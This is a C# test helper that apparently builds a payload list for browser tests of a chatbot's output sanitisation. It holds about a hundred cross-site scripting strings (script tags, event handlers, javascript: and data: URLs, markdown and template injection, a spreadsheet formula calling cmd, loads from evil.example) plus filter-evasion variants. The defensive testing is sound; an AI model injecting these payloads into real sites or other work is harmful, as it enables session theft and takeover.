namespace FollowUpBot.Tests.Browser;

/// <summary>What people write who want a page to run their script: each calls <c>pwned</c>, or asks a foreign host.</summary>
internal static class Payloads
{
    private const string Call = "pwned(1)";

    // Kinds of ways in, as OWASP and PortSwigger list them.
    private static readonly string[] Kinds =
    [
        "<script>@</script>", "<script src=https://evil.example/x.js></script>", "<script type=module>@</script>", "<script>/*</script><script>*/@//</script>",
        "<img src=x onerror=@>", "<img src=https://evil.example/p.png>", "<img srcset=\"https://evil.example/p.png 1x\" onload=@>", "<image href=x onerror=@>", "<img/src='x'/onerror=@>",
        "<svg onload=@>", "<svg><script>@</script></svg>", "<svg><animate onbegin=@ attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:@\"><text y=20>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='@'/>#x\"/></svg>",
        "<svg><foreignObject><iframe onload=@></foreignObject></svg>", "<svg><style><img src=x onerror=@></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=@>",
        "<iframe src=\"javascript:@\"></iframe>", "<iframe srcdoc=\"<script>parent.@</script>\"></iframe>", "<iframe src=https://evil.example/></iframe>", "<object data=\"javascript:@\"></object>", "<embed src=\"javascript:@\">", "<frameset onload=@>",
        "<body onload=@>", "<video><source onerror=@></video>", "<video src=x onerror=@></video>", "<audio src=x onerror=@></audio>", "<video poster=https://evil.example/p.png></video>",
        "<details open ontoggle=@>x</details>", "<input autofocus onfocus=@>", "<select autofocus onfocus=@></select>", "<textarea autofocus onfocus=@></textarea>", "<keygen autofocus onfocus=@>", "<button autofocus onfocus=@>x</button>", "<marquee onstart=@>x</marquee>",
        "<a href=\"javascript:@\">x</a>", "<a href=\"JaVaScRiPt:@\">x</a>", "<a href=\"java&#9;script:@\">x</a>", "<a href=\"&#106;avascript:@\">x</a>", "<a href=\"data:text/html,<script>@</script>\">x</a>", "<form action=\"javascript:@\"><button>x</button></form>", "<button formaction=\"javascript:@\">x</button>",
        "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=prefetch href=https://evil.example/x>", "<style>@import 'https://evil.example/x.css';</style>", "<style>*{background:url(https://evil.example/p.png)}</style>", "<div style=\"background:url(https://evil.example/p.png)\">x</div>",
        "<base href=https://evil.example/>", "<meta http-equiv=refresh content=\"0;url=javascript:@\">", "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">", "<template><script>@</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=@>\">",
        "<xss onpointerover=@ style=position:fixed;inset:0>x</xss>", "<p onmouseover=@ style=position:fixed;inset:0>x</p>", "<isindex type=image src=x onerror=@>", "<!--><img src=x onerror=@>-->", "<![CDATA[<img src=x onerror=@>]]>", "</title><img src=x onerror=@>", "</textarea><img src=x onerror=@>", "</script><script>@</script>",
        "\"><img src=x onerror=@>", "'><img src=x onerror=@>", "\" autofocus onfocus=@ x=\"", "' onmouseover='@", "`-@-`", "${@}", "{{@}}", "{{constructor.constructor('@')()}}", "#{@}", "<%= @ %>",
        "[x](javascript:@)", "[x](JAVASCRIPT:@)", "[x](java\tscript:@)", "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:@)", "![x](https://evil.example/p.png)", "![x](x \"onerror=@\")", "![x\"onerror=\"@](x)", "[x]: javascript:@\n\n[x]", "<javascript:@>", "[x](<javascript:@>)", "[x](https://evil.example \"t\" onclick=@)",
        "**<img src=x onerror=@>**", "`<img src=x onerror=@>`", "> <img src=x onerror=@>", "- <svg onload=@>", "| <svg onload=@> |\n|---|", "<div\n>\n<img src=x onerror=@>\n</div>",
        "=cmd|'/c calc'!A0", "=HYPERLINK(\"https://evil.example/\",\"x\")", "@SUM(1)+@", "javascript:@", "data:text/html,<script>@</script>", "\u202E<img src=x onerror=@>", "\u200B<svg/onload=@>", "<img src=x onerror=\u2028@>", "<ſcript>@</ſcript>", "＜script＞@＜/script＞",
    ];

    // The same in the ways that get past a filter that looks for the usual spelling.
    private static readonly Func<string, string>[] Ways =
    [
        p => p,
        p => p.Replace("<script", "<ScRiPt", StringComparison.Ordinal).Replace("onerror", "OnErRoR", StringComparison.Ordinal).Replace("onload", "oNlOaD", StringComparison.Ordinal),
        p => p.Replace("=", "\n=", StringComparison.Ordinal).Replace(" on", "/on", StringComparison.Ordinal),
        p => $"{p}{p}<",
    ];

    /// <summary>All of them, each with its number in its call.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Kinds.SelectMany(k => Ways.Select(w => w(k))).Distinct().Select((p, n) => p.Replace("@", Call.Replace("1", $"{n}", StringComparison.Ordinal), StringComparison.Ordinal))];
}
